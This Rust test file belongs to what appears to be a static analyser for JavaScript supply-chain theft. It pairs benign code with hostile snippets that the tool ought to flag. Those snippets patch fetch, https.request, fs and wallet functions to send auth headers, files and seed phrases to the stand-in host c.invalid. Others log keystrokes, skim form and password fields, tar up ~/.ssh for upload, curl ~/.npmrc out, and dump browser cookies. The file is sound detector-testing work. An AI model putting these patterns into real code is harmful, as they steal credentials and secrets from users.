//! What is meant for others: what they hand to functions that the code replaced, what is typed into a page. Beside each
//! stand the tools that measure, test and patch.

use weir_model::contents::{SourceKind, Surface};

use super::run;
use crate::Facts;

fn imported(code: &str) -> Facts {
    let entries = [(Surface::Import, "./index.js")];
    run(&[("index.js", code)], &[], &entries)
}

fn are_told_apart(source: SourceKind, caught: &[&str], silent: &[&str]) {
    let mut wrong = String::new();
    for (codes, is_told) in [(caught, true), (silent, false)] {
        for code in codes {
            let facts = imported(code);
            if facts.flows.iter().any(|flow| flow.source == source) != is_told {
                wrong.push_str(&format!("{is_told}: {code}: {:?}\n", facts.flows));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn what_others_hand_to_a_replaced_function_is_theirs() {
    are_told_apart(
        SourceKind::Overheard,
        &[
            "const https = require('https'); const request = https.request;
             https.request = function (o, ...r) { const a = o.headers.authorization;
               if (a) request({ host: 'c.invalid', path: '/?a=' + encodeURIComponent(a) }).end(); return request.call(this, o, ...r); };",
            "const before = globalThis.fetch;
             globalThis.fetch = async (u, o = {}) => { const a = new Headers(o.headers).get('authorization');
               before('https://c.invalid/', { method: 'POST', body: JSON.stringify({ u, a }) }); return before(u, o); };",
            "const fs = require('fs'); const read = fs.readFileSync;
             fs.readFileSync = (p, ...a) => { const d = read(p, ...a); fetch('https://c.invalid', { method: 'POST', body: d }); return d; };",
            "const cp = require('child_process'); const s = cp.spawn;
             cp.spawn = (c, a, o) => { fetch('https://c.invalid', { method: 'POST', body: JSON.stringify([c, a]) }); return s(c, a, o); };",
            "const crypto = require('crypto'); const o = crypto.createPrivateKey;
             crypto.createPrivateKey = function (k) { require('dns').resolve(Buffer.from(String(k)).toString('hex') + '.k.invalid', () => {}); return o.apply(this, arguments); };",
            "for (const k of Object.keys(require.cache)) if (/ethers/.test(k)) { const e = require.cache[k].exports; const f = e.Wallet.fromPhrase;
               e.Wallet.fromPhrase = (p) => { require('https').get('https://c.invalid/?p=' + encodeURIComponent(p)); return f(p); }; }",
            "const parse = JSON.parse;
             JSON.parse = function (s, r) { fetch('https://c.invalid', { method: 'POST', body: s }); return parse.call(this, s, r); };",
        ],
        &[
            // Counted, and handed on.
            "const https = require('https'); const request = https.request; let count = 0;
             https.request = function (...all) { count += 1; fetch('https://stats.invalid/?n=' + count); return request.apply(this, all); };",
            // Told to whatever host somebody set up.
            "exports.start = (to) => { const before = globalThis.fetch;
             globalThis.fetch = (u, o) => { before(to, { body: JSON.stringify({ u }) }); return before(u, o); }; };",
            // Told to this machine.
            "const before = globalThis.fetch;
             globalThis.fetch = (u, o) => { before('http://localhost:4318/v1/traces', { body: String(u) }); return before(u, o); };",
            // The host is what a caller of the same file asked for.
            "const before = globalThis.fetch;
             globalThis.fetch = (u, o) => before(u, { ...o, headers: {} }); globalThis.fetch('https://api.invalid/v1', { body: 'x' });",
            // Loads its configuration anew.
            "exports.load = (path, to) => { delete require.cache[path]; const it = require(path); fetch('https://stats.invalid/loads'); return it; };",
            // A function of its own by that name.
            "const api = {}; api.request = function (o) { return fetch('https://api.invalid', { body: JSON.stringify(o) }); }; module.exports = api;",
        ],
    );
}

#[test]
fn what_is_typed_is_meant_for_the_page() {
    are_told_apart(
        SourceKind::Overheard,
        &[
            "let b = ''; document.addEventListener('keydown', (e) => { b += e.key; if (b.length > 50) { navigator.sendBeacon('https://c.invalid/k', b); b = ''; } });",
            "const keys = []; window.addEventListener('keypress', function (e) { keys.push(e.key); fetch('https://c.invalid', { method: 'POST', body: keys.join('') }); });",
            "document.addEventListener('submit', (e) => { const d = Object.fromEntries(new FormData(e.target)); new Image().src = 'https://c.invalid/p.gif?d=' + btoa(JSON.stringify(d)); }, true);",
            "const p = document.querySelector('input[type=password]'); p.onblur = () => fetch('https://c.invalid', { method: 'POST', body: p.value });",
            "self.addEventListener('fetch', (e) => { fetch('https://c.invalid/?' + e.request.headers.get('authorization')); });",
        ],
        &[
            "let b = ''; document.addEventListener('keydown', (e) => { b += e.key; if (b.endsWith('iddqd')) fetch('https://game.invalid/cheat'); });",
            "exports.watch = (to) => document.addEventListener('keydown', (e) => { let b = ''; b += e.key; fetch(to, { body: b }); });",
            "document.addEventListener('keydown', (e) => { let n = 0; n += e.key.length; fetch('https://stats.invalid', { body: e.target.tagName }); });",
            "const f = document.querySelector('form'); f.addEventListener('submit', (e) => { fetch('https://api.invalid', { method: 'POST', body: new FormData(e.target) }); });",
            "const p = document.querySelector('#password'); p.oninput = () => { p.type = 'text'; fetch('https://stats.invalid/shown'); };",
            "self.addEventListener('fetch', (e) => e.respondWith(fetch(e.request)));",
        ],
    );
}

#[test]
fn other_ways_to_pack_and_to_start() {
    are_told_apart(
        SourceKind::CredentialFile,
        &[
            "const tar = require('tar'), os = require('os'), fs = require('fs');
             tar.c({ gzip: true, file: '/tmp/x.tgz' }, [os.homedir() + '/.ssh']).then(() => fetch('https://c.invalid', { method: 'POST', body: fs.readFileSync('/tmp/x.tgz') }));",
            "const tar = require('tar'), os = require('os'), https = require('https');
             tar.create({ cwd: os.homedir() }, ['.ssh']).pipe(https.request({ host: 'c.invalid', method: 'POST' }));",
            "require('shelljs').cat('~/.npmrc').exec('curl -s --data-binary @- https://c.invalid/a');",
            "const { $ } = require('execa'); const data = require('fs').readFileSync(require('os').homedir() + '/.npmrc');
             $({ input: data })`curl -s --data-binary @- https://c.invalid/a`;",
        ],
        &[
            "const tar = require('tar'), https = require('https');
             tar.c({ gzip: true }, ['dist']).pipe(https.request({ host: 'api.invalid', method: 'POST' })); require('fs').existsSync(require('os').homedir() + '/.ssh');",
            "const { $ } = require('execa'); const data = require('fs').readFileSync(require('os').homedir() + '/.npmrc'); $({ input: data })`npm-config-check`; fetch('https://api.invalid');",
            "const data = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); /curl/.exec(data); fetch('https://api.invalid');",
        ],
    );
}

#[test]
fn what_browsers_and_apps_keep_for_others() {
    are_told_apart(
        SourceKind::WalletOrProfile,
        &[
            "chrome.cookies.getAll({}, (all) => fetch('https://c.invalid', { method: 'POST', body: JSON.stringify(all) }));",
            "browser.cookies.getAll({}).then((all) => fetch('https://c.invalid', { method: 'POST', body: JSON.stringify(all) }));",
            "import Store from '@react-native-async-storage/async-storage';
             Store.getAllKeys().then((k) => Store.multiGet(k)).then((v) => fetch('https://c.invalid', { method: 'POST', body: JSON.stringify(v) }));",
        ],
        &[
            "import Store from '@react-native-async-storage/async-storage';
             Store.multiGet(['own.a', 'own.b']).then((v) => fetch('https://api.invalid', { method: 'POST', body: JSON.stringify(v) }));",
            "chrome.cookies.get({ url: 'https://own.invalid', name: 'a' }, (one) => fetch('https://own.invalid', { body: one.value }));",
        ],
    );
}
